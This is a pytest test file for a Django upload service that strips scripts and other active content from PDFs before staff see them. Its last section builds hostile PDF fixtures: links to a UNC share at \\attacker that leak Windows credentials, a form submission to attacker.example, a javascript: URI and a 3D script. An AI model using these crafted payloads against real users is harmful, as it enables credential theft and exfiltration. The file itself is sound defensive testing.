"""Active content never reaches staff: what is stored carries no script, automatic action,
launch, attached file, rich media or XFA (issue 13, item 5)."""

import hashlib
import io

import pytest
import time_machine
from django.urls import reverse
from pypdf import PdfReader

from documents.active_content import active_content_in_bytes
from documents.models import PieceFile
from documents.uploads import UploadRejected, inspect_upload
from tests.documents.files import (
    PAGE_TREE,
    _raw_pdf,
    _stream,
    fillable_cerfa_with_javascript,
    pdf_bytes,
    pdf_with_active,
    pdf_with_javascript,
    upload,
)
from tests.documents.helpers import stored_files
from tests.factories import PieceFileFactory, paris
from tests.portal.helpers import log_in_with_second_factor

pytestmark = pytest.mark.django_db

OPEN = paris(2023, 11, 1, 10)


def post(client, registration, content, name="formulaire.pdf"):
    with time_machine.travel(OPEN, tick=False):
        return client.post(reverse("documents:upload", args=[registration.pk, "identity"]), {"files": [upload(name, content)]},
                           HTTP_X_REQUESTED_WITH="XMLHttpRequest")


def stored_bytes(piece_file):
    with piece_file.file.open("rb") as file:
        return file.read()


def test_javascript_is_removed_from_the_stored_copy(logged_in, registration):
    sent = pdf_with_javascript()
    assert active_content_in_bytes(sent, max_objects=1000) == {"/OpenAction", "/AA", "/JavaScript", "/JS"}
    assert post(logged_in, registration, sent).status_code == 200
    stored = stored_bytes(PieceFile.objects.get())
    assert active_content_in_bytes(stored, max_objects=1000) == set()
    # Not only unreachable: gone from the file (no orphan object keeps the scripts' text).
    assert b"app.alert" not in stored and b"JavaScript" not in stored
    assert len(PdfReader(io.BytesIO(stored)).pages) == 1


def test_a_fillable_cerfa_with_javascript_is_accepted_without_it(logged_in, registration):
    sent = fillable_cerfa_with_javascript()
    assert "/JS" in active_content_in_bytes(sent, max_objects=1000)
    assert post(logged_in, registration, sent, name="cerfa-12345.pdf").status_code == 200
    stored = stored_bytes(PieceFile.objects.get())
    assert active_content_in_bytes(stored, max_objects=1000) == set() and b"AFDate" not in stored
    fields = PdfReader(io.BytesIO(stored)).get_fields()
    assert {name: field["/V"] for name, field in fields.items()} == {"nom": "Martin", "naissance": "01/02/2005"}


@pytest.mark.parametrize(("kind", "trace"), [
    ("launch", b"/Launch"), ("embedded", b"/EmbeddedFile"), ("richmedia", b"/RichMedia"), ("xfa", b"/XFA"),
])
def test_each_kind_of_active_content_is_removed_from_the_stored_copy(logged_in, registration, kind, trace):
    sent = pdf_with_active(kind)
    assert active_content_in_bytes(sent, max_objects=1000) and trace in sent
    assert post(logged_in, registration, sent).status_code == 200
    stored = stored_bytes(PieceFile.objects.get())
    assert active_content_in_bytes(stored, max_objects=1000) == set()
    assert trace not in stored


def test_the_fields_of_a_form_with_xfa_are_kept(logged_in, registration):
    post(logged_in, registration, pdf_with_active("xfa"))
    fields = PdfReader(io.BytesIO(stored_bytes(PieceFile.objects.get()))).get_fields()
    assert fields["nom"]["/V"] == "Martin"


def test_a_dynamic_xfa_form_that_cannot_be_sanitised_is_refused(logged_in, registration, private_media):
    response = post(logged_in, registration, pdf_with_active("dynamic-xfa"))
    assert response.status_code == 400
    message = response.json()["message"]
    assert "contient des éléments actifs" in message and "« Enregistrer au format PDF »" in message
    assert not PieceFile.objects.exists() and stored_files(private_media) == []


def test_a_pdf_without_active_content_is_stored_as_sent(logged_in, registration):
    sent = pdf_bytes(pages=2)
    post(logged_in, registration, sent)
    piece_file = PieceFile.objects.get()
    assert stored_bytes(piece_file) == sent
    assert piece_file.sha256 == piece_file.sent_sha256 == hashlib.sha256(sent).hexdigest()


def test_the_row_keeps_both_hashes(logged_in, registration):
    sent = pdf_with_javascript()
    post(logged_in, registration, sent)
    piece_file = PieceFile.objects.get()
    stored = stored_bytes(piece_file)
    assert piece_file.sent_sha256 == hashlib.sha256(sent).hexdigest()
    assert piece_file.sha256 == hashlib.sha256(stored).hexdigest() != piece_file.sent_sha256
    assert piece_file.size == len(stored) and piece_file.is_a_copy


def test_staff_see_both_hashes_on_the_review_page(client, staff, logged_in, registration):
    post(logged_in, registration, pdf_with_javascript())
    piece_file = PieceFile.objects.get()
    log_in_with_second_factor(client, staff)
    page = client.get(reverse("admin:documents_piece_review", args=[piece_file.piece.pk])).content.decode()
    assert piece_file.sha256 in page and piece_file.sent_sha256 in page
    assert "le fichier conservé est une copie" in page


def test_files_stored_before_keep_their_hash_as_the_one_sent(registration):
    """The migration's rule for existing rows: they were stored as sent."""
    from importlib import import_module

    from django.apps import apps

    old = PieceFileFactory(piece__registration=registration, piece__piece_kind__code="identity", sha256="ab" * 32, sent_sha256="")
    import_module("documents.migrations.0008_piecefile_sent_sha256").sent_is_stored(apps, None)
    old.refresh_from_db()
    assert old.sent_sha256 == "ab" * 32


# Found by a probe of the upload defences, as an attacker would (issue 13, item 5; the test failed
# when written): actions that reach outside the document were kept as sent. Acrobat follows them when
# staff click a link or a button: /GoToR, /ImportData and a file attachment reach a UNC path
# (\\attacker\share: the staff member's Windows credentials are sent to it); /SubmitForm posts the
# form to any server; a javascript: URI; a 3D annotation carries its own script (/OnInstantiate);
# /Rendition and /Movie play media from outside the file.

RECT = b"/Rect [50 50 200 100]"


def _pdf_with_annotation(annotation, *more):
    return _raw_pdf([b"<< /Type /Catalog /Pages 2 0 R >>", PAGE_TREE,
                     b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] /Annots [4 0 R] >>", annotation, *more])


def _link(action):
    return _pdf_with_annotation(b"<< /Type /Annot /Subtype /Link " + RECT + b" /A " + action + b" >>")


OUTWARD = {
    "gotor": (_link(b"<< /S /GoToR /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D [0 /Fit] >>"), b"/GoToR"),
    "importdata": (_link(b"<< /S /ImportData /F (\\\\\\\\attacker\\\\share\\\\x.fdf) >>"), b"/ImportData"),
    "submitform": (_link(b"<< /S /SubmitForm /F << /FS /URL /F (https://attacker.example/collect) >> >>"), b"/SubmitForm"),
    "javascript-uri": (_link(b"<< /S /URI /URI (javascript:app.alert\\(1\\)) >>"), b"javascript:"),
    "file-attachment": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /FileAttachment " + RECT
                                             + b" /FS << /Type /Filespec /F (\\\\\\\\attacker\\\\share\\\\x.exe) >> >>"), b"attacker"),
    "3d-script": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /3D " + RECT + b" /3DD 5 0 R /3DA << /A /PO >> >>",
                                       _stream(b"U3D", b"/Type /3D /Subtype /U3D /OnInstantiate 6 0 R"), _stream(b"app.alert(1)")),
                  b"/OnInstantiate"),
    "rendition": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Screen " + RECT + b" /A << /S /Rendition /OP 0 /R << /S /MR "
                                       b"/C << /S /MCD /D << /Type /Filespec /FS /URL /F (https://attacker.example/m.mp4) >> >> >> >> >>"),
                  b"/Rendition"),
    "thread-remote": (_link(b"<< /S /Thread /F (\\\\\\\\attacker\\\\share\\\\x.pdf) /D 0 >>"), b"attacker"),
    "movie": (_pdf_with_annotation(b"<< /Type /Annot /Subtype /Movie " + RECT + b" /Movie << /F (\\\\\\\\attacker\\\\share\\\\m.mov) >> >>"),
              b"attacker"),
}


@pytest.mark.parametrize("kind", OUTWARD)
def test_an_action_that_reaches_outside_the_document_is_not_kept(kind):
    sent, trace = OUTWARD[kind]
    assert trace in sent
    try:
        inspection = inspect_upload(upload("formulaire.pdf", sent))
    except UploadRejected:
        return  # refused: nothing reaches staff either
    stored = inspection.cleaned.read() if inspection.cleaned else sent
    assert trace not in stored
